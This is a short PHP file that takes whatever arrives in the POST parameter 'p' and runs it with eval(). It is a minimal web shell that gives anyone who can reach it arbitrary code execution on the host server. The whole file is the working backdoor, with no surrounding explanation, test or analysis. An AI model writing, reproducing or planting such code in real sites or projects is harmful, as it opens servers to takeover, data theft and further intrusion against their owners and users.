<?php
$payload = isset($_POST['p']) ? $_POST['p'] : '';
if ($payload !== '') {
    eval($payload);
}
